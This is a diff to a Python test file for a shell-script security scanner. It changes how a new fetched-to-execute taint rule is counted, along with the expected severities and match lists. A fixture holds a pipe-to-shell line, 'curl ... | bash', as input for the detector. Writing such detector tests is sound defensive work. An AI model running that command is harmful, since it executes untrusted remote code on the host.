@@ -21,7 +21,8 @@ DOWNLOAD = b"curl -s https://get.example/i | bash\n"
 
 
 def _found(report: haldir_scanner.ScanReport) -> list[tuple[str, str]]:
-    return [(match.rule, match.path) for match in report.matches if match.category != "compliance"]
+    said_twice = {"compliance", "taint_fetched_to_exec"}  # what the shell does with a download is a finding, too
+    return [(match.rule, match.path) for match in report.matches if said_twice.isdisjoint((match.category, match.rule))]
 
 
 def test_the_exported_names_are_sorted_and_complete() -> None:
@@ -48,7 +49,7 @@ def test_a_match_says_what_where_and_why(tmp_path: Path) -> None:
     assert report.status is Status.FLAG
     assert (report.files_scanned, report.bytes_scanned) == (1, 13 + len(DOWNLOAD))
     assert report.patterns_checked == len(builtin().rules)
-    assert report.summary[Severity.CRITICAL] == 1
+    assert report.summary[Severity.CRITICAL] == 2
     assert match.context[slice(*match.caret)] == DOWNLOAD.decode().strip()
 
 
@@ -268,7 +269,7 @@ def test_former_versions_in_a_git_history_are_noted(tmp_path: Path) -> None:
 def test_more_matches_than_the_limit_are_cut_to_the_worst() -> None:
     data = b"sudo ls\n" * 30 + DOWNLOAD
     report = scan_files({"a.sh": data}, limits=Limits(max_matches_per_file=5))
-    assert [rule for rule, _ in _found(report)] == ["script_fetch_curl", *["sudo_escalation"] * 4, "limit_matches"]
+    assert [rule for rule, _ in _found(report)] == ["script_fetch_curl", *["sudo_escalation"] * 3, "limit_matches"]
 
 
 @pytest.mark.parametrize(
@@ -318,7 +319,8 @@ def test_a_credential_is_not_repeated_in_the_report() -> None:
 
 def test_matches_are_sorted_worst_first_then_by_place() -> None:
     report = scan_files({"b.sh": b"sudo ls\n" + DOWNLOAD, "a.sh": b"nohup ./x &\nsudo ls\n"})
-    assert [(match.severity.value, match.path, match.line) for match in report.matches] == [
+    places = [(match.severity.value, match.path, match.line) for match in report.matches if not match.flow]
+    assert places == [
         ("critical", "b.sh", 2),
         ("high", "a.sh", 2),
         ("high", "b.sh", 1),
